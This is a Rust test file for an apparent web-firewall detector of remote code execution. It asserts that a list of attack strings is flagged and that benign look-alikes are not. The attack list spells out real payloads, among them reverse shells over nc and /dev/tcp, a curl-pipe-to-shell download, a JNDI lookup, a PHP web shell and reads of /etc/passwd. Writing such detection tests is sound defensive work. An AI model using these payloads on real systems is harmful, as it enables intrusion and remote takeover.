use waf_policy::AttackType;

use proptest::prelude::*;

use super::*;
use crate::detect::THRESHOLD;

fn weight(place: Place, value: &[u8]) -> u32 {
    let (mut scratch, mut fuel, mut signs) = (Scratch::default(), Fuel::new(1 << 24), Signs::default());
    scan(&Value { bytes: value, place }, &mut scratch, &mut fuel, &mut signs);
    if signs.iter().next().is_some() {
        assert!(may_match(&Classes::of(value)), "{}", value.escape_ascii());
    }
    for sign in signs.iter() {
        assert!(sign.span.start <= sign.span.end && sign.span.end <= value.len());
    }
    signs.weight(AttackType::Rce)
}

#[test]
fn injections_are_found() {
    for value in [
        ";id",
        "127.0.0.1;id",
        "|cat /etc/passwd",
        "`id`",
        "$(id)",
        "x && whoami",
        "a);id",
        "\";ls -la;\"",
        "\nid",
        ";c''at /etc/passwd",
        ";c\\at${IFS}/etc/passwd",
        "|/???/c?t /etc/passwd",
        ";{cat,/etc/passwd}",
        "& dir c:\\",
        "; sleep 5",
        "x|ping -n 5 127.0.0.1",
        "cmd /c dir",
        "powershell -nop -enc SQBFAFgA",
        "curl http://198.51.100.7/a | sh",
        "nc -e /bin/sh 198.51.100.7 4444",
        "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
        "cat /etc/passwd",
        "system('id')",
        "';system('id');//",
        "${@print(md5(1))}",
        "eval(base64_decode('aWQ='))",
        "phpinfo()",
        "__import__('os').system('id')",
        "require('child_process').exec('id')",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${${::-j}ndi:ldap://x/a}",
        "() { :;}; /bin/id",
        "<?php system($_GET['c']); ?>",
        "O:7:\"Example\":1:{s:1:\"a\";i:1;}",
        "http://198.51.100.7/x.txt?",
        "expect://id",
    ] {
        assert!(weight(Place::Query, value.as_bytes()) >= THRESHOLD, "{value}");
    }
}

#[test]
fn look_alikes_are_not() {
    for value in [
        "cat; dog",
        "time; who is there",
        "AT&T & more",
        "name;id;email",
        "id|name",
        "Use `id` to see who you are",
        "What does `grep -r \"foo\" /etc/nginx` do?",
        "cd ~/project && make; ls -la | less  # how do I undo this?",
        "$(this).find('a').show()",
        "Hello ${name}, your order $id costs $5",
        "phpinfo() shows the wrong version here",
        "exec('foo') fails with TypeError when called twice",
        "rock & roll; host: me | date: today",
        "Operating system (Linux)",
        "terms & set terms for post causes glitch?",
        "I'd say: sort it | file it",
        "a=1&id=5&sort=name",
        "eat; sleep 8 hours; repeat",
    ] {
        for place in [Place::Query, Place::Body, Place::Cookie] {
            assert!(weight(place, value.as_bytes()) < THRESHOLD, "{value} at {place:?}");
        }
    }
    for value in [
        "Mozilla/5.0 (Linux; U; Android 2.2.1; id; AD350) AppleWebKit/528.5+ (KHTML, like Gecko)",
        "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
        "SophosAgent/1.0 (type= spa )",
    ] {
        assert!(weight(Place::UserAgent, value.as_bytes()) < THRESHOLD, "{value}");
    }
}

#[test]
fn prefilter_knows_every_name() {
    let mut unknown = Vec::new();
    for name in vocabulary::names() {
        for value in [format!(";{name}"), format!("{name} -x")] {
            if !may_match(&Classes::of(value.as_bytes())) {
                unknown.push(value);
            }
        }
    }
    for name in sinks::names() {
        // PHP's request variables only count with their `$`.
        let value = if name.starts_with("__") {
            name.to_owned()
        } else {
            name.replacen('_', "$_", 1)
        };
        if !may_match(&Classes::of(value.as_bytes())) {
            unknown.push(value);
        }
    }
    for value in [
        "rO0ABXNyABFqYXZhLnV0aWwu",
        "aced0005737200176a61",
        "AAEAAAD/////AQAAAA",
        "cos\nsystem\n",
        "cposix\nsystem\n",
        "c__builtin__\neval\n",
        "csubprocess\nPopen\n",
        "!!javax.script.X",
        "!!com.sun.rowset.X",
        "!!python/object/x",
        "!ruby/object:Gem",
        "/tmp/x -x",
    ] {
        if !may_match(&Classes::of(value.as_bytes())) {
            unknown.push(value.to_owned());
        }
    }
    assert_eq!(unknown, Vec::<String>::new());
}

proptest! {
    #[test]
    fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        weight(Place::Query, &bytes);
        weight(Place::Uri, &bytes);
    }

    #[test]
    fn prefilter_agrees(
        value in "(;|\\||&|`|\\$\\(|\\)|\\$IFS|\\{|\\}|'|\"|\\\\| |\n|\\?|=|/|id|cat|ls|rm|echo|system|eval|x|5|-e|http://|\\$\\{jndi:ldap:){0,12}"
    ) {
        for place in [Place::Uri, Place::Query, Place::Body, Place::Header] {
            weight(place, value.as_bytes());
        }
    }
}
